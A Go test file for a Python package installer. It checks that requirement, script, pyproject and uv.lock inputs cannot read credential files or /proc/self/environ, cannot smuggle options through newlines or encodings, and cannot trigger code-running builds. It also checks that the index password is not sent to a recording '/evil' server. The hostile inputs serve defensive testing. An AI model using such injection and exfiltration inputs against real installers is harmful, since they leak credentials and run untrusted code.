package install_test

import (
	"fmt"
	"net/http"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/brasa-dev/brasa/internal/faas"
	"github.com/brasa-dev/brasa/internal/install"
)

// heard notes what a server of somebody else is asked for.
type heard struct {
	mu    sync.Mutex
	asked []string // guarded by mu
}

func (h *heard) all() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return strings.Join(h.asked, "\n")
}

// serveBesideEvil serves a directory below /simple to who has the password, and notes what is asked for
// below /evil. Whose is who is told by the path, since the tests have one address only.
func serveBesideEvil(t *testing.T, dir, password string) (address string, h *heard) {
	t.Helper()
	h = &heard{}
	l := listenBeside(t)
	files := http.StripPrefix("/simple", http.FileServer(http.Dir(dir)))
	s := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, p, _ := r.BasicAuth()
		switch {
		case strings.HasPrefix(r.URL.Path, "/evil/"):
			h.mu.Lock()
			h.asked = append(h.asked, r.URL.String())
			h.mu.Unlock()
			http.NotFound(w, r)
		case p != password:
			w.Header().Set("WWW-Authenticate", `Basic realm="index"`)
			http.Error(w, "who is there?", http.StatusUnauthorized)
		default:
			files.ServeHTTP(w, r)
		}
	})}
	go func() { _ = s.Serve(l) }()
	t.Cleanup(func() { _ = s.Close() })
	return l.Addr().String(), h
}

// What code names in the form of requirements is data: none of it is an option of the tool's, reads
// what the step may read, or lets packages run.
func TestRequirementsAreNoWayToCredentialsOrToCodeThatRuns(t *testing.T) {
	s := newPyShop(t)
	x := newPyIndex(t)
	x.wheel(t, "small", "1.0", map[string]string{"small.py": "x = 1\n"})
	ran := x.source(t, "runner", "1.0", "def _hook(out):\n    out['ran'] = True\n")
	const password = "correct-horse-battery"
	address, heard := serveBesideEvil(t, x.dir, password)
	i := s.installer(t, "http://user:"+password+"@"+address+"/simple/", nil)
	evil := "http://" + address + "/evil"
	script := func(needs string) map[string]string {
		return map[string]string{"main.py": "# /// script\n# dependencies = [" + needs + "]\n# ///\n"}
	}
	uvLock := func(name, version, hash string) map[string]string {
		return map[string]string{"uv.lock": fmt.Sprintf("version = 1\n[[package]]\nname = \"p\"\nsource = { virtual = \".\" }\ndependencies = [{ name = %q }]\n"+
			"[[package]]\nname = %q\nversion = %q\nsource = { registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"u\", hash = %q }]\n", name, name, version, hash)}
	}
	with := func(files map[string]string, name, content string) map[string]string {
		files[name] = content
		return files
	}
	hash := "sha256:" + strings.Repeat("1", 64)
	for name, c := range map[string]struct {
		files map[string]string
		opt   install.Options
	}{
		"a file of the step's, absolute":       {with(requirements("-r /access/pip.conf"), "access/pip.conf", "small\n"), install.Options{}},
		"the same as constraint":               {with(requirements("small", "-c /access/pip.conf"), "access/pip.conf", "small\n"), install.Options{}},
		"the same, written together":           {requirements("-r/access/pip.conf"), install.Options{}},
		"the same, abbreviated":                {requirements("--req /access/pip.conf"), install.Options{}},
		"the same, by way of a script":         {script(`"-r /access/pip.conf"`), install.Options{}},
		"the same, on a line of its own":       {script(`"small\n-r /access/pip.conf"`), install.Options{}},
		"the same, in a project":               {map[string]string{"pyproject.toml": "[project]\nname = \"p\"\ndependencies = [\"small\\n-r /access/pip.conf\"]\n"}, install.Options{}},
		"the same, in a lock's version":        {uvLock("small", "1.0\n-r /access/pip.conf\n", hash), install.Options{}},
		"the same, in a lock's hash":           {uvLock("small", "1.0", hash+"\n-r /access/pip.conf\n"), install.Options{}},
		"the same, behind a comment":           {requirements("small # it is\x0c-r /access/pip.conf"), install.Options{}},
		"the same, behind a carriage return":   {requirements("small # it is\r-r /access/pip.conf"), install.Options{}},
		"the same, in another encoding":        {requirements("# -*- coding: utf-7 -*-", "small # +AAo--r /access/pip.conf"), install.Options{}},
		"the environment, in an address":       {requirements("small @ " + evil + "/${UV_DEFAULT_INDEX}/small-1.0-py3-none-any.whl"), install.Options{}},
		"the environment, as an index":         {requirements("--index-url "+evil+"/${UV_DEFAULT_INDEX}/", "small"), install.Options{}},
		"the environment, beside the code":     {requirements("small"), install.Options{With: []string{"small @ " + evil + "/${UV_DEFAULT_INDEX}/small-1.0-py3-none-any.whl"}}},
		"the environment, as a file":           {requirements("-r /proc/self/environ"), install.Options{}},
		"an option behind a package":           {script(`"small --config-settings a=b"`), install.Options{}},
		"an option beside the code":            {requirements("small"), install.Options{With: []string{"small --index-url " + evil}}},
		"what has to be built":                 {requirements("--no-binary :all:", "runner"), install.Options{}},
		"what has to be built, though hashed":  {requirements("--no-binary :all:", "runner==1.0 --hash=sha256:"+ran), install.Options{}},
		"what has to be built, by a script":    {script(`"--no-binary=runner", "runner"`), install.Options{}},
		"what has to be built, abbreviated":    {requirements("--no-bin runner", "runner"), install.Options{}},
		"what has to be built, in a lock":      {uvLock("runner", "1.0", "sha256:"+ran+"\n--no-binary :all:\n"), install.Options{}},
		"what has to be built, at an address":  {requirements("runner @ file:///index-0/runner/runner-1.0.tar.gz"), install.Options{}},
		"a source that the code brings along":  {with(requirements("./runner-1.0.tar.gz"), "runner-1.0.tar.gz", string(mustRead(t, x.dir+"/runner/runner-1.0.tar.gz"))), install.Options{}},
		"a repository, which runs a program":   {requirements("runner @ git+" + evil + "/runner.git"), install.Options{}},
		"a repository, by way of a script":     {script(`"runner @ git+` + evil + `/runner.git"`), install.Options{}},
		"a hash that anybody can find again":   {requirements("small==1.0 --hash=md5:" + strings.Repeat("1", 32)), install.Options{Strict: true}},
		"a lock's hash that anybody can forge": {uvLock("small", "1.0", "md5:"+strings.Repeat("1", 32)), install.Options{Strict: true}},
	} {
		t.Run(name, func(t *testing.T) {
			res, log, err := i.try(t, c.files, c.opt)
			if err == nil {
				if !strings.Contains(name, "behind a c") && !strings.Contains(name, "encoding") || len(res.Packages) != 1 || res.Packages[0].Name != "small" {
					t.Errorf("it was installed: %+v", res) // what a comment hides is not handed on
				}
			} else if code := faas.CodeOf(err); code != faas.Invalid {
				t.Errorf("got %v, want it refused as invalid", err)
			}
			said := log
			if err != nil {
				said += err.Error() + faas.AsError(err).Fix + faas.AsError(err).Trace
			}
			if strings.Contains(said, password) {
				t.Errorf("the caller is shown the password:\n%s", said)
			}
			if strings.Contains(heard.all(), password) {
				t.Fatalf("somebody else was sent the password: %s", heard.all())
			}
		})
	}
}

func mustRead(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
